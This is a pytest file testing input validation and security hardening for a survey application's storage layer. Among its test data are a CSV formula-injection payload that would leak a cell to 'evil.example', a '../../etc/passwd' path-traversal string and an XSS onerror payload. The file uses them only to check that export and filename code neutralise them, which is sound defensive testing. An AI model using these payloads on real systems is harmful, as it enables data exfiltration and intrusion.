"""Bad input and the security points of issue 13, below the app."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from analysis.cli.main import main as cli_main
from analysis.errors import RAExplorerError
from analysis.survey import admin
from analysis.survey.design import create_study, design_2afc
from analysis.survey.stats import json_ready, study_summary
from analysis.survey.store import (
    answer_rows,
    delete_study,
    export_csv,
    get_study,
    next_trial,
    rater_by_token,
    record_answer,
    set_status,
    show,
    start_rater,
)
from analysis.survey.validate import csv_cell, safe_filename

ROOT = Path(__file__).resolve().parents[2]
METHODS = ["sr-plain", "sr-ra"]


def study(Session, name="s", n=4):
    with Session() as s:
        create_study(s, name, "2afc", "sr:scale=4", design_2afc(METHODS, [0, 1, 2], n, 0.0, 0),
                     {"methods": METHODS})


@pytest.mark.parametrize("bad, sentence", [
    ("x" * 10_000, "The participant code has 10,000 characters; at most 64 are allowed."),
    ("a\x00b", "The participant code contains the control character U+0000; use printable "
               "characters only."),
])
def test_bad_codes_get_the_same_sentence_on_both_databases(AnyDB, bad, sentence):
    study(AnyDB)
    with AnyDB() as s:
        with pytest.raises(RAExplorerError) as err:
            start_rater(s, get_study(s, "s"), bad)
        assert str(err.value) == sentence
        assert get_study(s, "x" * 10_000) is None and get_study(s, "a\x00") is None


def test_bad_study_and_method_names_are_refused_before_the_database(AnyDB):
    with AnyDB() as s:
        with pytest.raises(RAExplorerError, match="study name has 300 characters"):
            create_study(s, "n" * 300, "2afc", "sr", design_2afc(METHODS, [0], 2, 0, 0), {})
        with pytest.raises(RAExplorerError, match="method name has 201 characters"):
            create_study(s, "ok", "2afc", "sr", design_2afc(["m" * 201, "b"], [0], 2, 0, 0), {})


def test_a_typed_code_never_resumes_another_raters_session(AnyDB):
    study(AnyDB)
    with AnyDB() as s:
        st = get_study(s, "s")
        alice = start_rater(s, st, "alice")
        assert len(alice.token) >= 32 and alice.token != "alice"
        with pytest.raises(RAExplorerError, match="already taken"):
            start_rater(s, st, "alice")                      # the forged code
        assert rater_by_token(s, "alice") is None            # a code is not a token
        other = "y" if alice.token.endswith("x") else "x"       # never the token itself
        assert rater_by_token(s, alice.token[:-1] + other) is None
        assert rater_by_token(s, alice.token).id == alice.id


def test_an_answer_must_carry_its_screens_token_and_lands_once(AnyDB):
    study(AnyDB)
    with AnyDB() as s:
        st = get_study(s, "s")
        a, b = start_rater(s, st, "a"), start_rater(s, st, "b")
        ta = next_trial(s, a)
        token = show(s, a, ta)
        assert show(s, a, ta) == token                       # the same screen, the same token
        with pytest.raises(RAExplorerError, match="does not belong"):
            record_answer(s, a, ta, "A", "2afc", token=show(s, b, next_trial(s, b)))
        assert record_answer(s, a, ta, "A", "2afc", token=token, rt_ms=812.5) is True
        assert record_answer(s, a, ta, "B", "2afc", token=token, rt_ms=90.0) is False  # retry
        rows = answer_rows(s, st)
        assert [(r["answer"], r["rt_ms"], r["order"]) for r in rows] == [("A", 812.5, 1)]


def test_csv_export_neutralises_formulas_and_download_names_are_safe(tmp_path):
    from analysis.survey.db import make_engine, session_factory

    Session = session_factory(make_engine(f"sqlite:///{tmp_path / 'x.db'}"))
    study(Session)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Session() as s:
        st = get_study(s, "s")
        r = start_rater(s, st, evil)
        t = next_trial(s, r)
        record_answer(s, r, t, "A", "2afc", token=show(s, r, t), rt_ms=500.0)
        rows = list(csv.DictReader(io.StringIO(export_csv(s, st))))
    assert rows[0]["rater"] == "'" + evil                     # shown as text, not run
    assert rows[0]["rt_ms"] == "500.0"
    for start in "=+-@\t\r":
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("plain") == "plain" and csv_cell(-1.5) == -1.5
    assert safe_filename('<img src=x onerror="alert(1)">study') == "img_src_x_onerror_alert_1_study.csv"
    assert safe_filename("../../etc/passwd") == "etc_passwd.csv"
    assert safe_filename("日本") == "study.csv"


def test_admin_token_is_compared_as_bytes_and_non_ascii_works(monkeypatch):
    monkeypatch.setenv("SURVEY_ADMIN_TOKEN", "tök✓-秘密")
    assert admin.check_token("tök✓-秘密") is True
    assert admin.check_token("tok✓-秘密") is False
    assert admin.check_token("ö") is False and admin.check_token("") is False
    assert admin.check_token(None) is False


def test_admin_token_comes_from_the_toml_settings_without_the_environment(monkeypatch, tmp_path):
    monkeypatch.delenv("SURVEY_ADMIN_TOKEN", raising=False)
    monkeypatch.setenv("RA_EXPLORER_CONFIG", str(tmp_path / "none.toml"))
    assert admin.admin_token() is None and admin.check_token("x") is False   # closed, no crash
    (tmp_path / "ra.toml").write_text('[survey]\nadmin_token = "from-toml"\n')
    monkeypatch.setenv("RA_EXPLORER_CONFIG", str(tmp_path / "ra.toml"))
    assert admin.admin_token() == "from-toml" and admin.check_token("from-toml") is True


def test_wrong_tokens_are_throttled_with_a_stated_wait_and_the_right_one_works_after(monkeypatch):
    monkeypatch.setenv("SURVEY_ADMIN_TOKEN", "right")
    now = [0.0]
    t = admin.Throttle(free=3, max_wait=60, clock=lambda: now[0])
    assert t.attempt("ip:1", "w") == (False, 0.0)
    assert t.attempt("ip:1", "w") == (False, 0.0)
    assert t.attempt("ip:1", "w") == (False, 1.0)             # the third wrong try: wait 1 s
    assert t.attempt("ip:1", "right") == (False, 1.0)         # refused during the wait
    assert t.attempt("ip:2", "right") == (True, 0.0)          # another client is not slowed
    waits = []
    for _ in range(30):
        now[0] += 100
        waits.append(t.attempt("ip:1", "w")[1])
    assert waits[:3] == [2.0, 4.0, 8.0] and max(waits) == 60   # doubling, capped
    now[0] += 60
    assert t.attempt("ip:1", "right") == (True, 0.0)          # after 30 wrong: accepted
    assert t.wait("ip:1") == 0


def test_delete_needs_an_export_after_the_last_answer_and_the_typed_name(AnyDB):
    study(AnyDB)
    with AnyDB() as s:
        st = get_study(s, "s")
        r = start_rater(s, st, "a")
        t = next_trial(s, r)
        record_answer(s, r, t, "A", "2afc", token=show(s, r, t))
        with pytest.raises(RAExplorerError, match="Export the study"):
            delete_study(s, st, "s")
        export_csv(s, st)
        with pytest.raises(RAExplorerError, match="Type the study's name"):
            delete_study(s, st, "S")
        delete_study(s, st, "s")
        assert get_study(s, "s") is None


def test_a_closed_study_takes_no_new_raters(AnyDB):
    study(AnyDB)
    with AnyDB() as s:
        st = get_study(s, "s")
        set_status(s, st, "closed")
        with pytest.raises(RAExplorerError, match="closed"):
            start_rater(s, st, None)


def test_summary_json_has_no_nan():
    rows = [{"rater": "a", "trial_id": 1, "left": "x", "right": "y", "answer": "tie",
             "is_catch": False, "expected": None, "rt_ms": None}]
    text = json.dumps(json_ready(study_summary(rows, "2afc", n_boot=5)), allow_nan=False)
    assert "NaN" not in text and json.loads(text)["agreement_alpha"] is None


@pytest.mark.parametrize("url, part", [
    ("bogus://x", "Cannot open the survey database 'bogus://x'"),
    ("sqlite:////nonexistent/dir/x.db", "unable to open database file"),
    ("postgresql+psycopg://u:secret@127.0.0.1:1/x", "Connection refused"),
])
def test_bad_database_urls_give_one_sentence(url, part, capsys):
    assert cli_main(["survey", "list", "--db", url]) == 2
    err = capsys.readouterr().err
    assert part in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "secret" not in err


def test_cli_refuses_a_300_character_name_with_a_sentence_not_sql(tmp_path):
    out = subprocess.run([sys.executable, "-m", "analysis", "survey", "create", "--name", "x" * 300,
                          "--db", f"sqlite:///{tmp_path / 'x.db'}"], cwd=ROOT, capture_output=True,
                         text=True, timeout=120)
    assert out.returncode == 2
    assert out.stderr.strip() == "error: The study name has 300 characters; at most 100 are allowed."


OLD_SCHEMA = [  # the tables as the first survey version made them (SQLite)
    "CREATE TABLE studies (id INTEGER PRIMARY KEY, name VARCHAR(200) NOT NULL UNIQUE, kind "
    "VARCHAR(20) NOT NULL, task VARCHAR(100) NOT NULL, config JSON NOT NULL, created DATETIME "
    "NOT NULL)",
    "CREATE TABLE trials (id INTEGER PRIMARY KEY, study_id INTEGER NOT NULL, position INTEGER "
    "NOT NULL, image_index INTEGER NOT NULL, \"left\" VARCHAR(200) NOT NULL, \"right\" "
    "VARCHAR(200) NOT NULL, swapped BOOLEAN NOT NULL, is_catch BOOLEAN NOT NULL, expected "
    "VARCHAR(20), payload JSON NOT NULL, UNIQUE (study_id, position))",
    "CREATE TABLE raters (id INTEGER PRIMARY KEY, study_id INTEGER NOT NULL, code VARCHAR(64) "
    "NOT NULL, consented DATETIME, UNIQUE (study_id, code))",
    "CREATE TABLE answers (id INTEGER PRIMARY KEY, study_id INTEGER NOT NULL, rater_id INTEGER "
    "NOT NULL, trial_id INTEGER NOT NULL, answer VARCHAR(20) NOT NULL, created DATETIME NOT "
    "NULL, UNIQUE (rater_id, trial_id))",
    "INSERT INTO studies VALUES (1, 'old', '2afc', 'sr:scale=4', '{}', '2026-01-01 00:00:00')",
    "INSERT INTO trials VALUES (1, 1, 0, 3, 'sr-plain', 'sr-ra', 0, 0, NULL, '{}')",
    "INSERT INTO trials VALUES (2, 1, 1, 4, 'sr-ra', 'sr-plain', 1, 0, NULL, '{}')",
    "INSERT INTO raters VALUES (1, 1, 'early', '2026-01-01 00:00:00')",
    "INSERT INTO answers VALUES (1, 1, 1, 1, 'A', '2026-01-01 00:00:01')",
]


def test_a_database_of_the_first_version_is_upgraded_in_place(tmp_path):
    import sqlite3

    from sqlalchemy.exc import IntegrityError

    from analysis.survey.db import Rater, make_engine, session_factory

    path = tmp_path / "old.db"
    con = sqlite3.connect(path)
    for sql in OLD_SCHEMA:
        con.execute(sql)
    con.commit()
    con.close()
    Session = session_factory(make_engine(f"sqlite:///{path}"))
    with Session() as s:
        st = get_study(s, "old")
        assert [r["answer"] for r in answer_rows(s, st)] == ["A"]       # kept
        r = start_rater(s, st, "new")
        t = next_trial(s, r)
        assert record_answer(s, r, t, "B", "2afc", token=show(s, r, t), rt_ms=640.0)
        assert [x["rt_ms"] for x in answer_rows(s, st)] == [None, 640.0]
        s.add(Rater(study_id=st.id, code="dup", token=r.token))        # tokens stay unique
        with pytest.raises(IntegrityError):
            s.commit()
